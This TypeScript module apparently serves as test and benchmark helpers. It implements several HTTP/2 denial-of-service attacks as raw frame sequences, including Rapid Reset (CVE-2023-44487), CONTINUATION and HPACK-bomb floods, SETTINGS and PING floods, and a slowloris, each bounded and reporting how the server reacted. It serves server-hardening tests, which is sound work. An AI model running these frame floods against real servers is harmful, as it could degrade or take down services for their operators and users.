import {
  ErrorCode, Flag, FrameType, H2Conn, PREFACE, Setting, continuation, headers, hpack, ping, requestBlock, rstStream, settings,
  type OpenOptions,
} from './h2-frames.js';

/**
 * The known HTTP/2 attacks as raw frame sequences (test/helpers/h2-frames.ts), shared by
 * test/h2/attacks.test.ts (asserts) and bench/h2-attacks.ts (figures). Each one opens its own
 * connection, is bounded in frames sent and in time, stops as soon as the server closes the
 * connection, and returns what the server did. None waits with a fixed sleep.
 */

export interface AttackResult {
  /** The server closed the connection (GOAWAY or not) before the attack's time bound. */
  closed: boolean;
  /** ms from the first attack frame until the close (or until the attack gave up). */
  cutMs: number;
  /** GOAWAY error code, if one came. */
  goaway?: number;
  /** RST_STREAM codes received, by code. */
  resets: Map<number, number>;
  /** Frames the attack sent (its own count: how far it got). */
  sent: number;
  conn: H2Conn;
}

export interface AttackTarget {
  port: number;
  host?: string;
  /** TLS with ALPN h2 (otherwise h2c prior knowledge). */
  tls?: OpenOptions['tls'];
  /** :authority of requests. */
  authority?: string;
  /** A path the backend answers quickly; `bigPath` one it answers with a large body. */
  path?: string;
  bigPath?: string;
  /** A path the backend answers after a while (streams stay open). */
  slowPath?: string;
}

export type Attack = (t: AttackTarget, o?: { maxMs?: number }) => Promise<AttackResult>;

const tick = (): Promise<void> => new Promise((r) => setImmediate(r));

async function open(t: AttackTarget, ackSettings = true): Promise<H2Conn> {
  return H2Conn.open({ port: t.port, host: t.host, tls: t.tls, keep: 32, ackSettings });
}

function result(c: H2Conn, t0: number, sent: number): AttackResult {
  const resets = new Map<number, number>();
  for (const f of c.frames) if (f.type === FrameType.RST_STREAM) { const k = f.payload.readUInt32BE(0); resets.set(k, (resets.get(k) ?? 0) + 1); }
  return { closed: c.isClosed, cutMs: (c.isClosed ? c.closedAt : c.now()) - t0, goaway: c.goaway()?.code, resets, sent, conn: c };
}

/** Runs `step(i)` for i = 0.. until it returns false, the server closes, `max` steps or `maxMs`; then waits up to `graceMs` for the close. */
async function loop(c: H2Conn, max: number, maxMs: number, step: (i: number) => Promise<boolean | void> | boolean | void, graceMs = 3000): Promise<number> {
  const end = c.now() + maxMs;
  let i = 0;
  for (; i < max && !c.isClosed && c.now() < end; i++) if ((await step(i)) === false) break;
  await c.waitClosed(Math.max(0, Math.min(graceMs, end - c.now() + graceMs)));
  return i;
}

/** CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) on a new stream, in a loop (5000 streams at most). */
export const rapidReset: Attack = async (t, o = {}) => {
  const c = await open(t);
  c.write(PREFACE, settings([]));
  const t0 = c.now();
  const blk = requestBlock('GET', t.path ?? '/', t.authority ?? 'localhost');
  const n = await loop(c, 5000, o.maxMs ?? 10_000, async (i) => {
    const id = 1 + 2 * i;
    c.write(headers(id, blk, { endStream: true }), rstStream(id, ErrorCode.CANCEL));
    if (i % 20 === 19) { await c.drain(); await tick(); }
  });
  return result(c, t0, n * 2);
};

/** CVE-2024-27316 class: HEADERS without END_HEADERS, then CONTINUATION frames that never end the block (10,000 at most). */
export const continuationFlood: Attack = async (t, o = {}) => {
  const c = await open(t);
  c.write(PREFACE, settings([]));
  const t0 = c.now();
  c.write(headers(1, requestBlock('GET', t.path ?? '/', t.authority ?? 'localhost'), { endStream: true, endHeaders: false }));
  const n = await loop(c, 10_000, o.maxMs ?? 10_000, async (i) => {
    c.write(continuation(1, hpack.literal(`x-c${i}`, 'v'.repeat(64))));
    if (i % 50 === 49) { await c.drain(); await tick(); }
  });
  return result(c, t0, n + 1);
};

/**
 * HPACK bomb: a 4000-byte entry put in the dynamic table once, then each request references it
 * 1000 times (4 MB decompressed from 1 KB), 300 streams at most, in waves.
 */
export const hpackBomb: Attack = async (t, o = {}) => {
  const c = await open(t);
  c.write(PREFACE, settings([]));
  const t0 = c.now();
  const refs = Buffer.concat(Array.from({ length: 1000 }, () => hpack.indexed(62)));
  const base = requestBlock('GET', t.path ?? '/', t.authority ?? 'localhost');
  const n = await loop(c, 300, o.maxMs ?? 10_000, async (s) => {
    const parts = s === 0 ? [base, hpack.incremental('x-bomb', 'a'.repeat(4000)), refs] : [base, refs];
    c.write(headers(1 + 2 * s, Buffer.concat(parts), { endStream: true }));
    if (s % 10 === 9) await c.waitFor((f) => f.type === FrameType.RST_STREAM && f.streamId === 1 + 2 * s, 200);
  });
  return result(c, t0, n);
};

/** SETTINGS frames, each waiting for its ACK (a client reading everything: only a rate bound stops it), 2000 at most. */
export const settingsFlood: Attack = async (t, o = {}) => {
  const c = await open(t);
  c.write(PREFACE, settings([]));
  const t0 = c.now();
  const f = settings([[Setting.INITIAL_WINDOW_SIZE, 65535], [Setting.MAX_FRAME_SIZE, 16384]]);
  const n = await loop(c, 2000, o.maxMs ?? 10_000, async () => {
    const acks = c.count(FrameType.SETTINGS);
    c.write(f);
    await c.waitFor(() => c.count(FrameType.SETTINGS) > acks, 500);
  });
  return result(c, t0, n);
};

/** 20,000 SETTINGS frames in one write, never acknowledging: nghttp2's queued-ACK flood check. */
export const settingsBurst: Attack = async (t, o = {}) => {
  const c = await open(t, false);
  c.write(PREFACE, settings([]));
  const t0 = c.now();
  const one = settings([[Setting.INITIAL_WINDOW_SIZE, 65535]]);
  const n = await loop(c, 4, o.maxMs ?? 10_000, async () => { c.write(Buffer.concat(Array.from({ length: 5000 }, () => one))); await c.drain(); });
  return result(c, t0, n * 5000);
};

/** PING frames, each waiting for its ACK, 2000 at most. */
export const pingFlood: Attack = async (t, o = {}) => {
  const c = await open(t);
  c.write(PREFACE, settings([]));
  const t0 = c.now();
  const n = await loop(c, 2000, o.maxMs ?? 10_000, async (i) => {
    c.write(ping(i));
    await c.waitFor((f) => f.type === FrameType.PING && (f.flags & Flag.ACK) !== 0 && f.payload.readUInt32BE(4) === i, 500);
  });
  return result(c, t0, n);
};

/**
 * Zero-window stall: SETTINGS_INITIAL_WINDOW_SIZE 0, then `streams` requests for a large body; the
 * client never sends WINDOW_UPDATE. Ends when every stream was reset and the connection closed.
 */
export function zeroWindow(streams = 10): Attack {
  return async (t, o = {}) => {
    const c = await open(t);
    c.write(PREFACE, settings([[Setting.INITIAL_WINDOW_SIZE, 0]]));
    const t0 = c.now();
    for (let s = 0; s < streams; s++) c.write(headers(1 + 2 * s, requestBlock('GET', t.bigPath ?? '/big', t.authority ?? 'localhost'), { endStream: true }));
    await c.waitClosed(o.maxMs ?? 10_000);
    return result(c, t0, streams);
  };
}

/** More streams than the server's SETTINGS_MAX_CONCURRENT_STREAMS, sent after acknowledging them (`n` streams). */
export function tooManyStreams(n: number): Attack {
  return async (t, o = {}) => {
    const c = await open(t);
    c.write(PREFACE, settings([]));
    await c.waitFor((f) => f.type === FrameType.SETTINGS && (f.flags & Flag.ACK) !== 0, 3000);
    const t0 = c.now();
    const blk = requestBlock('GET', t.slowPath ?? '/slow', t.authority ?? 'localhost');
    for (let s = 0; s < n; s++) c.write(headers(1 + 2 * s, blk, { endStream: true }));
    await c.waitClosed(o.maxMs ?? 5000);
    return result(c, t0, n);
  };
}

/** One request whose header list exceeds `bytes` (split over HEADERS + CONTINUATION), after the SETTINGS ACK; then a normal request on the same connection. */
export function oversizedHeaders(bytes: number): Attack {
  return async (t, o = {}) => {
    const c = await open(t);
    c.write(PREFACE, settings([]));
    await c.waitFor((f) => f.type === FrameType.SETTINGS && (f.flags & Flag.ACK) !== 0, 3000);
    const t0 = c.now();
    const fields = Array.from({ length: Math.ceil(bytes / 2000) + 1 }, (_, i) => [`x-big${i}`, 'b'.repeat(2000)] as const);
    const blk = requestBlock('GET', t.path ?? '/', t.authority ?? 'localhost', fields);
    const parts: Buffer[] = [];
    for (let off = 0; off < blk.length; off += 8000) parts.push(blk.subarray(off, off + 8000));
    c.write(headers(1, parts[0], { endStream: true, endHeaders: parts.length === 1 }));
    parts.slice(1).forEach((p, i) => c.write(continuation(1, p, i === parts.length - 2)));
    await c.waitFor((f) => f.streamId === 1 && (f.type === FrameType.RST_STREAM || f.type === FrameType.HEADERS), o.maxMs ?? 5000);
    c.write(headers(3, requestBlock('GET', t.path ?? '/', t.authority ?? 'localhost'), { endStream: true }));
    await c.waitFor((f) => f.streamId === 3 && (f.flags & Flag.END_STREAM) !== 0, o.maxMs ?? 5000);
    return result(c, t0, 2);
  };
}

/** Slowloris: the client preface and nothing else (no SETTINGS, no ACK). */
export const prefaceOnly: Attack = async (t, o = {}) => {
  const c = await open(t, false);
  c.write(PREFACE);
  const t0 = c.now();
  await c.waitClosed(o.maxMs ?? 10_000);
  return result(c, t0, 0);
};
